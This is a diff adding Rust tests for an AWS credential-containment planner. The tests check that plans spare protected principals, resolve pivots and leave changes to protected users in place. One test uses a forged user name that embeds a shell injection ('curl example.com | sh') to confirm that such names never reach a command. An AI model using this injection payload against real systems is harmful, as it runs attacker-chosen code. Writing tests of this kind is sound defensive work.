@@ -1,0 +1,221 @@
+//! What a plan does not touch, and that it says so.
+
+use keyline_contain::{AlteringEvent, ErrorKind, Reach, Reason, Request, Target};
+use keyline_lineage::Credential;
+use serde_json::{Value, json};
+
+use crate::world::*;
+
+#[track_caller]
+fn check_refused(credential: Credential, change: impl Fn(&mut Ask<'_>), reason: Reason, why: &str) {
+    let forest = forest(std::slice::from_ref(&credential));
+    let mut ask = Ask::of(&forest, &credential.id);
+    change(&mut ask);
+    let plan = ask.plan();
+    let acts = plan
+        .steps
+        .iter()
+        .filter(|step| step.kind != "notify-account");
+    assert_eq!(acts.count(), 0, "\n{}", plan.markdown());
+    assert_eq!(plan.refused.len(), 1);
+    assert!(plan.refused[0].why.contains(why), "{:?}", plan.refused);
+    assert_eq!(plan.still_alive_after[0].reason, reason);
+}
+
+#[test]
+fn whoever_runs_the_plan_is_refused_with_its_chain() {
+    let own = [format!("arn:aws:sts::{OURS}:assumed-role/Responder/me")];
+    check_refused(
+        session("cr-me", OURS, "Responder", "me"),
+        |ask| ask.estate.own = own.to_vec(),
+        Reason::Protected,
+        "runs the plan",
+    );
+    // A session of the chain is named: the user above it is spared as well.
+    let above = key("cr-key", OURS, "responder");
+    let session = from(&above, session("cr-me", OURS, "Responder", "me"));
+    let forest = forest(&[above, session]);
+    let mut ask = Ask::of(&forest, "cr-key");
+    ask.estate.own = vec!["cr-me".to_owned()];
+    let plan = ask.plan();
+    assert!(plan.steps.is_empty(), "\n{}", plan.markdown());
+    assert_eq!(plan.still_alive_after.len(), 2);
+}
+
+#[test]
+fn break_glass_service_linked_hub_foreign_and_nameless() {
+    check_refused(
+        session("cr-1", OURS, "BreakGlassAdmin", "x"),
+        |ask| ask.estate.break_glass = vec!["arn:aws:iam::*:role/BreakGlass*".to_owned()],
+        Reason::Protected,
+        "break-glass",
+    );
+    check_refused(
+        Credential {
+            role_arn: format!("arn:aws:iam::{OURS}:role/aws-service-role/x.amazonaws.com/Own"),
+            ..session("cr-1", OURS, "Own", "x")
+        },
+        |_| {},
+        Reason::ServiceLinkedRole,
+        "service-linked",
+    );
+    check_refused(
+        session("cr-1", OURS, "OrganizationAccountAccessRole", "x"),
+        |_| {},
+        Reason::Protected,
+        "forced",
+    );
+    check_refused(
+        session("cr-1", FOREIGN, "Admin", "x"),
+        |ask| ask.estate.accounts = Some([OURS.to_owned()].into()),
+        Reason::ForeignAccount,
+        FOREIGN,
+    );
+    check_refused(
+        bare("cr-1", keyline_lineage::Kind::UnknownTemporary, OURS),
+        |_| {},
+        Reason::CannotBeDenied,
+        "whose it is",
+    );
+}
+
+#[test]
+fn a_name_that_aws_never_gave_stands_in_no_command() {
+    let forged = Credential {
+        user_name: "a'; curl example.com | sh #".to_owned(),
+        principal_arn: format!("arn:aws:iam::{OURS}:user/a'; curl example.com | sh #"),
+        ..key("cr-1", OURS, "x")
+    };
+    check_refused(forged, |_| {}, Reason::CannotBeDenied, "whose it is");
+}
+
+#[test]
+fn forced_roles_are_touched() {
+    let forest = forest(&[session("cr-1", OURS, "OrganizationAccountAccessRole", "x")]);
+    let mut ask = Ask::of(&forest, "cr-1");
+    ask.estate.forced = vec!["OrganizationAccountAccessRole".to_owned()];
+    assert!(ask.plan().still_alive_after.is_empty());
+}
+
+#[test]
+fn an_unknown_target_is_an_error() {
+    let forest = forest(&[key("cr-1", OURS, "alice")]);
+    let ask = Ask::of(&forest, "");
+    let result = keyline_contain::plan(&Request {
+        target: &Target::Pivot("AKIAUNKNOWN".to_owned()),
+        forest: ask.forest,
+        as_of: NOW,
+        made_at: NOW,
+        inventory: &ask.inventory,
+        events: &[],
+        estate: &ask.estate,
+        reach: Reach::Tree,
+        breadth: ask.breadth,
+    });
+    let error = result.unwrap_err();
+    assert_eq!(error.kind(), ErrorKind::TargetUnknown);
+    assert!(error.to_string().contains("AKIAUNKNOWN"));
+}
+
+#[test]
+fn pivots_find_their_credentials() {
+    let stolen = key("cr-key", OURS, "alice");
+    let made = from(&stolen, session("cr-role", OURS, "Admin", "work"));
+    let forest = forest(&[stolen, made]);
+    for pivot in [
+        "cr-role",
+        "AKIACRKEY",
+        "alice",
+        "work",
+        "arn:aws:iam::111122223333:role/Admin",
+        "arn:aws:sts::111122223333:assumed-role/Admin/work",
+        "AROAADMIN111122223333:work",
+    ] {
+        assert_eq!(
+            Ask::of(&forest, pivot).plan().credentials,
+            ["cr-key", "cr-role"],
+            "{pivot}"
+        );
+    }
+}
+
+#[test]
+fn a_key_made_long_ago_does_not_accuse_its_maker() {
+    let admin = password("cr-admin", OURS, "bob");
+    let signed_in = from(&admin, console("cr-console", OURS, "bob"));
+    let stolen = from(&signed_in, key("cr-key", OURS, "ci"));
+    let forest = forest(&[admin, signed_in, stolen]);
+    let mut ask = Ask::of(&forest, "cr-key");
+    let plan = ask.plan();
+    assert_eq!(plan.credentials, ["cr-key"]);
+    assert!(
+        plan.notes.iter().any(|note| note.contains("cr-console")),
+        "{:?}",
+        plan.notes
+    );
+    ask.reach = Reach::Root;
+    assert_eq!(ask.plan().credentials.len(), 3);
+}
+
+#[test]
+fn dormant_siblings_are_in_also_when_only_what_is_below_is_asked_for() {
+    let stolen = key("cr-key", OURS, "alice");
+    let used = from(&stolen, session("cr-used", OURS, "Admin", "a"));
+    let busy = from(&stolen, session("cr-busy", OURS, "Audit", "b"));
+    let dormant = Credential {
+        event_count: 0,
+        ..from(&stolen, session("cr-dormant", OURS, "Deploy", "c"))
+    };
+    let forest = forest(&[stolen, used, busy, dormant]);
+    let mut ask = Ask::of(&forest, "cr-used");
+    ask.reach = Reach::Below;
+    assert_eq!(ask.plan().credentials, ["cr-dormant", "cr-used"]);
+}
+
+/// An event of the tree.
+pub fn event(
+    id: &str,
+    name: &str,
+    credential: &str,
+    request: Value,
+    response: Value,
+) -> AlteringEvent {
+    AlteringEvent {
+        event_id: id.to_owned(),
+        at: NOW - HOUR / 2,
+        account: OURS.to_owned(),
+        region: "us-east-1".to_owned(),
+        source: "iam.amazonaws.com".to_owned(),
+        name: name.to_owned(),
+        credential: credential.to_owned(),
+        failed: false,
+        request,
+        response,
+        before: None,
+        touched_later_by: Vec::new(),
+    }
+}
+
+#[test]
+fn what_was_done_to_the_protected_is_not_taken_back() {
+    let stolen = key("cr-key", OURS, "alice");
+    let forest = forest(&[stolen]);
+    let mut ask = Ask::of(&forest, "cr-key");
+    ask.estate.break_glass = vec!["arn:aws:iam::*:user/glass".to_owned()];
+    let request =
+        json!({"userName": "glass", "policyArn": "arn:aws:iam::aws:policy/ReadOnlyAccess"});
+    ask.events = vec![event(
+        "e-1",
+        "AttachUserPolicy",
+        "cr-key",
+        request,
+        Value::Null,
+    )];
+    let plan = ask.plan();
+    assert!(
+        plan.steps
+            .iter()
+            .all(|step| step.action != "DetachUserPolicy")
+    );
+    assert!(plan.refused[0].target.contains("e-1"), "{:?}", plan.refused);
+}
